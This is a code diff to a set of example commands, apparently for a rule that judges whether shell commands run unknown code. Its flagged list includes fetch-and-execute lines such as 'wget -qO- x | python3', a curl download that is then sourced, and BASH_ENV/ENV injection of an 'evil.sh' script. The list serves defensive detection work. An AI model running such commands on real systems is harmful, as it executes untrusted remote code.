@@ -16,6 +16,9 @@ export const examples: RuleExamples = {
       'eval "$CMD"',
       'sh missing-script.sh',
       'wget -qO- x | python3',
+      'source ./setup.sh',
+      'curl -so .venv/bin/activate https://example.com/a && source .venv/bin/activate',
+      'source "$VENV/bin/activate"',
       // What runs is not known: a sourced file that isn't there yet, a $PATH dir or $IFS set at run time.
       'BASH_ENV=/nonexistent/evil.sh bash -c true',
       'ENV=/nonexistent/evil.sh sh -i -c true',
@@ -28,6 +31,9 @@ export const examples: RuleExamples = {
       'bash -c "ls -la"',
       'eval "echo hi"',
       'bash --version',
+      // A virtualenv's activate script that is not there runs nothing; one a venv tool makes is the tool's own.
+      'source .venv/bin/activate',
+      'python3 -m venv .venv && . .venv/bin/activate',
       'PATH=/usr/local/bin:$PATH ls',
       'PATH=node_modules/.bin:$PATH jest --ci',
       'PATH=.venv/bin:$PATH python -V',
